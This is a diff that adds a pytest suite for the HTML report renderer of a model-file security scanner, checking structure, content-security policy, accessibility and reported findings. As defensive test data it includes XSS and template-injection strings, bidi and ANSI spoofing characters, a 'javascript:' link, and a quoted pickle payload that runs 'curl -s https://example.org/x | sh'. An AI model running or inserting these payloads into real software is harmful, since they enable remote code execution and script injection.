@@ -1,0 +1,275 @@
+from __future__ import annotations
+
+import re
+from collections.abc import Callable, Iterator
+from dataclasses import replace
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+
+import modelaudit.reports
+from modelaudit.model.report import AuditReport, Decision, Verdict
+from modelaudit.reports.html import FIRST_FINDINGS, render_html
+from modelaudit.reports.json_report import parse_report, render_json, report_digest
+
+VOID = frozenset({"meta", "input", "br"})
+ELEMENTS = VOID | {
+    *("html", "head", "title", "style", "body", "main", "header", "section", "nav", "div", "article"),
+    *("h1", "h2", "h3", "h4", "p", "ul", "ol", "li", "dl", "dt", "dd", "details", "summary"),
+    *("a", "code", "small", "strong", "em", "span", "q", "time", "svg", "path", "circle"),
+    *("table", "caption", "thead", "tbody", "tr", "th", "td", "label", "fieldset", "legend", "textarea"),
+}
+CSS = Path(modelaudit.reports.__file__).parent / "templates" / "report.css"
+
+
+class Page(HTMLParser):
+    """The page as a strict reader sees it: every element closed in order, text and attributes apart."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.open: list[str] = []
+        self.elements: list[tuple[str, dict[str, str]]] = []
+        self.words: list[str] = []
+        self.style = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        names = [name for name, _ in attrs]
+        assert len(names) == len(set(names)), f"an attribute twice on <{tag}>"
+        assert tag != "p" or "p" not in self.open, "a paragraph inside a paragraph"
+        self.elements.append((tag, {name: value or "" for name, value in attrs}))
+        if tag not in VOID:
+            self.open.append(tag)
+        elif tag == "br":
+            self.words.append(" ")
+
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag in {"path", "circle"}, f"<{tag}/> closes itself"
+        self.elements.append((tag, {name: value or "" for name, value in attrs}))
+
+    def handle_endtag(self, tag: str) -> None:
+        assert self.open.pop() == tag
+
+    def handle_data(self, data: str) -> None:
+        if self.open and self.open[-1] == "style":
+            self.style += data
+        else:
+            self.words.append(data)
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(f"a comment: {data[:40]}")
+
+    @property
+    def text(self) -> str:
+        return " ".join("".join(self.words).split())
+
+    def attributes(self, tag: str) -> Iterator[dict[str, str]]:
+        return (attributes for name, attributes in self.elements if name == tag)
+
+
+def page_of(report: AuditReport) -> Page:
+    html = render_html(report).decode()
+    assert html.startswith("<!DOCTYPE html>\n")
+    return Page(html)
+
+
+def test_the_page_is_well_formed(any_report: AuditReport) -> None:
+    page = page_of(any_report)
+    assert page.open == []
+    assert {tag for tag, _ in page.elements} <= ELEMENTS
+    assert next(page.attributes("html")) == {"lang": "en"}
+    ids = [attributes["id"] for _, attributes in page.elements if "id" in attributes]
+    assert len(ids) == len(set(ids))
+
+
+def test_the_page_asks_the_network_for_nothing_and_runs_nothing(any_report: AuditReport) -> None:
+    page = page_of(any_report)
+    ids = {attributes.get("id") for _, attributes in page.elements}
+    for tag, attributes in page.elements:
+        assert not [
+            name for name in attributes if name.startswith("on") or name in {"src", "srcset", "style", "action"}
+        ]
+        assert "href" not in attributes or tag == "a"
+        if tag == "a" and not attributes["href"].startswith("#"):
+            assert attributes["href"].startswith("https://")
+            assert attributes["rel"] == "noopener noreferrer"
+        elif tag == "a":
+            assert attributes["href"][1:] in ids
+    assert "url(" not in page.style and "@import" not in page.style and "<" not in page.style
+    policy = next(each for each in page.attributes("meta") if "http-equiv" in each)
+    assert policy["http-equiv"] == "Content-Security-Policy"
+    assert policy["content"].startswith("default-src 'none'; style-src 'unsafe-inline'")
+
+
+def test_what_a_model_says_stays_text(hostile: AuditReport) -> None:
+    page = page_of(hostile)
+    assert "</script><script>alert(1)</script><img src=x onerror=alert(2)>\"'&amp;{{ 7*7 }}{% raw %}" in page.text
+    assert "\\x1b[31;1mred" in page.text
+    assert "\\u202eexe.tnegra" in page.text
+    assert "\\xff\\x80\\ud800" in page.text
+    assert not re.search(
+        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]", "".join(page.words)
+    )
+    assert "more characters, all of them in the JSON report" in page.text
+
+
+FACTS = (
+    "Do not load or ship this model",
+    "3 findings are at or above the severity high, which the policy rejects.",
+    "3f1a9c0de4b7a2285c6d1f0e9b8a7c6d5e4f3a2b",
+    "acme/tiny-llama@main",
+    "https://huggingface.co",
+    "Online: files were fetched from the origin.",
+    "24 November 2026, 09:30 UTC",
+    "default: findings of severity high and above fail.",
+    "8" * 64,
+    "modelaudit 0.1.0",
+    "9" * 64,
+    "The revision main resolved to the commit above.",
+    "4 parts not examined",
+    "No reader for GGUF, magic 47475546.",
+    "pytorch_model.bin!archive/data.pkl byte 2,048",
+    "Yes. Default: images carry no weights.",
+    "Checks that were not run: transparency.",
+    "The claims contradict each other.",
+    "Both cannot hold for the same weights, so neither is relied on.",
+    "LLAMA 3.1 COMMUNITY LICENSE AGREEMENT",
+    "Inherited from the model it descends from.",
+    "Not on record",
+    "Give everyone who receives the model a copy of the licence. Section 4(a)",
+    "Terms read on 2026-11-20.",
+    "These terms were not verified against the text.",
+    "Loading the file calls a function that can run commands",
+    "Loading it calls posix.system with the argument 'curl -s https://example.org/x | sh'.",
+    "1228: SHORT_BINUNICODE 'curl -s https://example.org/x | sh'",
+    "whoever loads the file hands over the machine",
+    "Ask the publisher for safetensors weights",
+    "CWE-502",
+    "The model as a whole",
+    "has a finding in this file too",
+    "has none in this file",
+    "It disagrees: it examined these files and found nothing",
+    "No opinion. It did not examine these files, so it neither agrees nor disagrees.",
+    "It is not installed for this version of Python.",
+    "7 files, 5,125,779,458 bytes in all",
+    "4.13 GB 4,130,000,000 bytes",
+    "a" * 64,
+    "source states SHA-256 " + "c" * 64,
+    "DIFFERENT from what the source states.",
+    "zip, pickle, tensor-storage; 151 members inside",
+    "Approved under the conditions below",
+    "Signature",
+)
+
+
+@pytest.mark.parametrize("fact", FACTS)
+def test_the_page_holds_the_fact(fact: str, failing: AuditReport) -> None:
+    assert " ".join(fact.split()) in page_of(failing).text
+
+
+def test_the_order_is_that_of_an_officer_who_signs(failing: AuditReport) -> None:
+    page = page_of(failing)
+    sections = [attributes["aria-labelledby"] for attributes in page.attributes("section") if "id" in attributes]
+    assert [name.removesuffix("-title") for name in sections] == [
+        "unexamined",
+        "license",
+        "findings",
+        "opinions",
+        "inventory",
+        "signoff",
+    ]
+    assert page.text.index("Do not load or ship") < page.text.index("What was not examined, and why")
+
+
+def test_the_page_is_bound_to_the_data_and_made_again_from_it(failing: AuditReport) -> None:
+    page = page_of(failing)
+    assert page.text.count(report_digest(failing)) == 1
+    assert report_digest(failing) in page.style
+    assert render_html(parse_report(render_json(failing))) == render_html(failing)
+
+
+def test_severity_is_a_word_and_a_shape_and_a_colour(failing: AuditReport) -> None:
+    html = render_html(failing).decode()
+    shapes = {}
+    for severity in ("critical", "high", "medium", "low", "info"):
+        found = re.search(rf'<span class="badge {severity}"><svg[^>]*>(.*?)</svg> {severity.capitalize()}</span>', html)
+        assert found
+        shapes[severity] = found[1]
+    assert len(set(shapes.values())) == 5
+
+
+def test_tables_have_captions_and_scopes(failing: AuditReport) -> None:
+    page = page_of(failing)
+    tags = [tag for tag, _ in page.elements]
+    assert tags.count("table") == tags.count("caption") == 4
+    assert all(attributes["scope"] in {"col", "row"} for attributes in page.attributes("th"))
+
+
+def test_references_become_links_only_over_https(failing: AuditReport) -> None:
+    page = page_of(failing)
+    links = {attributes["href"] for attributes in page.attributes("a") if not attributes["href"].startswith("#")}
+    assert links == {
+        "https://docs.python.org/3/library/pickle.html",
+        "https://cwe.mitre.org/data/definitions/502.html",
+        "https://www.apache.org/licenses/LICENSE-2.0",
+        "https://www.llama.com/llama3_1/license/",
+    }
+    assert "javascript:alert(1)" in page.text
+
+
+def test_a_thousand_findings_fold_away_and_none_is_lost(examples: dict[str, Callable[[], AuditReport]]) -> None:
+    report = examples["crowded"]()
+    page = page_of(report)
+    assert {f"finding-{finding.fingerprint}" for finding in report.findings} <= {
+        attributes.get("id") for attributes in page.attributes("li")
+    }
+    assert f"{1001 - FIRST_FINDINGS:,} more findings of this rule" in page.text
+    assert page.text.count("The function belongs to a package outside the trust list") == 1
+    assert "details::details-content" in page.style
+
+
+def test_equal_fingerprints_do_not_share_an_anchor(hostile: AuditReport) -> None:
+    ids = [attributes["id"] for attributes in page_of(hostile).attributes("li") if "id" in attributes]
+    assert len(ids) == len(set(ids))
+
+
+def test_nothing_examined_is_never_told_as_everything(incomplete: AuditReport) -> None:
+    text = page_of(incomplete).text
+    assert "This is not a pass: there was no file to examine." in text
+    assert "examined whole" not in text
+    assert "No licence is declared. Without one, nothing is permitted." in text
+    assert "No obligations can be listed" in text
+    assert "No second scanner was asked." in text
+
+
+def test_a_pass_with_accepted_absences_says_so(passing: AuditReport, failing: AuditReport) -> None:
+    record = failing.coverage.artifacts[2]
+    coverage = replace(passing.coverage, artifacts=(*passing.coverage.artifacts, record))
+    text = page_of(replace(passing, decision=Decision(Verdict.PASS, (), coverage))).text
+    assert "it accepts the 1 part that was not examined" in text
+    assert "Every part of the model was examined" not in text
+
+
+def _luminance(color: str) -> float:
+    channels = [int(color[at : at + 2], 16) / 255 for at in (1, 3, 5)]
+    red, green, blue = (each / 12.92 if each <= 0.04045 else ((each + 0.055) / 1.055) ** 2.4 for each in channels)
+    return 0.2126 * red + 0.7152 * green + 0.0722 * blue
+
+
+TEXT_ON = [
+    *((ink, ground) for ink in ("ink", "soft", "link", "no", "bad") for ground in ("sheet", "tint")),
+    *(("on", tone) for tone in ("critical", "high", "medium", "low", "info", "pass", "fail", "incomplete")),
+    *((verdict, f"{verdict}-tint") for verdict in ("pass", "fail", "incomplete")),
+    *(("ink", f"{verdict}-tint") for verdict in ("pass", "fail", "incomplete")),
+]
+
+
+@pytest.mark.parametrize("theme", [0, 1, 2], ids=["light", "dark", "print"])
+def test_text_has_the_contrast_of_wcag_aa(theme: int) -> None:
+    blocks = re.findall(r":root \{(.*?)\}", CSS.read_text(encoding="utf-8"), re.DOTALL)
+    colors = dict(re.findall(r"--([\w-]+): (#[0-9a-f]{6});", blocks[theme]))
+    for ink, ground in TEXT_ON:
+        light, dark = sorted((_luminance(colors[ink]), _luminance(colors[ground])), reverse=True)
+        assert (light + 0.05) / (dark + 0.05) >= 4.5, f"{ink} on {ground}"
